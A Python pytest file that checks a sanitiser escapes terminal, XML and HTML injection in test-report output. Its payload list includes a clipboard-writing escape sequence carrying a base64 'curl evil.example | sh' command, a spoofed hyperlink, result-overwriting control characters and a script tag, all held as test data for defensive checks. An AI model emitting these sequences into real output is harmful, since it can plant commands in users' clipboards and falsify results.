"""Sanitising: what a host, a profile or a waiver sends cannot act on a terminal, a JUnit file or a page."""

from __future__ import annotations

import datetime as dt
import re
import xml.etree.ElementTree as ET
from xml.sax.saxutils import escape

import pytest

from pytest_backupnet.sanitize import html_text, quote, shorten, terminal_text, visible_escape, xml_text

# An attacker's payloads: (name, text, what must be shown instead of the active character)
PAYLOADS = [
    ("colour (CSI SGR)", "ok \x1b[31mFAIL\x1b[0m", "\\x1b[31m"),
    ("clear screen", "\x1b[2J\x1b[H", "\\x1b[2J"),
    ("window title (OSC 0)", "\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
    ("clipboard write (OSC 52)", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "\\x1b]52;c;"),
    ("hyperlink (OSC 8, ST end)", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\\x1b]8;;"),
    ("BEL", "ding\x07", "ding\\x07"),
    ("backspace over text", "PASS\x08\x08\x08\x08FAIL", "PASS\\x08"),
    ("CR overwrite", "FAIL: 3 checks\rPASS          ", "FAIL: 3 checks\\rPASS"),
    ("C1 CSI", "\x9b31mred", "\\x9b31m"),
    ("C1 OSC", "\x9d0;title\x9c", "\\x9d0;title\\x9c"),
    ("NEL", "a\x85b", "a\\x85b"),
    ("DEL", "a\x7fb", "a\\x7fb"),
    ("NUL", "a\x00b", "a\\x00b"),
    ("right-to-left override", "evwebamp0901\u202emoc.reyaltfos", "\\u202e"),
    ("isolates", "a\u2066b\u2069c", "a\\u2066b\\u2069c"),
    ("right-to-left mark", "a\u200fb", "a\\u200fb"),
    ("lone surrogate", "bad\udcff", "bad\\udcff"),
    ("device control string", "\x1bP+q544e\x1b\\", "\\x1bP+q544e"),
]
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize(("text", "shown"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS])
def test_terminal_text_escapes_every_active_character(text: str, shown: str) -> None:
    for one_line in (False, True):
        safe = terminal_text(text, one_line=one_line)
        assert not ACTIVE.search(safe)
        assert shown in safe
        safe.encode("utf-8")  # printable: a lone surrogate would raise here


@pytest.mark.parametrize(("text", "shown"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS])
def test_xml_text_is_valid_xml_and_inert(text: str, shown: str) -> None:
    safe = xml_text(text)
    assert ET.fromstring(f"<failure>{escape(safe)}</failure>").text == safe
    assert not ACTIVE.search(safe) and shown in safe


@pytest.mark.parametrize(("text", "shown"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS])
def test_html_text_escapes_markup_and_controls(text: str, shown: str) -> None:
    safe = html_text(f"<script>alert(1)</script>{text}")
    assert "<" not in safe and ">" not in safe and not ACTIVE.search(safe)
    assert "&lt;script&gt;" in safe


def test_ordinary_text_is_unchanged() -> None:
    text = "evwebamp0901.service.softlayer.com:8087 — Zürich 東京 ✓\tcolumn\nnext line"
    assert terminal_text(text) == text == xml_text(text)
    assert terminal_text(text, one_line=True) == text.replace("\t", "\\t").replace("\n", "\\n")


def test_one_line_escapes_line_breaks() -> None:
    assert terminal_text("a\nb\u2028c\td", one_line=True) == "a\\nb\\u2028c\\td"
    assert visible_escape("\U0010ffff") == "\\U0010ffff"


def test_shorten_and_quote_are_bounded() -> None:
    assert shorten("x" * 10, 20) == "x" * 10
    assert shorten("x" * 1000, 20) == "x" * 20 + "... (980 more characters)"
    quoted = quote("\x1b]0;t\x07" + "y" * 10_000)
    assert len(quoted) < 120 and "\x1b" not in quoted and "\\x1b" in quoted
    assert quote("a\u202eb") == "'a\\u202eb'"
    assert quote(10**5000) == "a 16610-bit number"  # str() of it would raise ValueError
    assert quote(8087) == "8087" and quote(True) == "True" and quote(None) == "None"
    assert quote(list(range(100_000))) == "a list of 100000 items"
    assert quote({"a": 1}) == "a mapping of 1 keys"
    assert quote(b"\x00" * 9) == "9 bytes of binary data"
    assert quote(dt.date(2027, 3, 31)) == "2027-03-31"
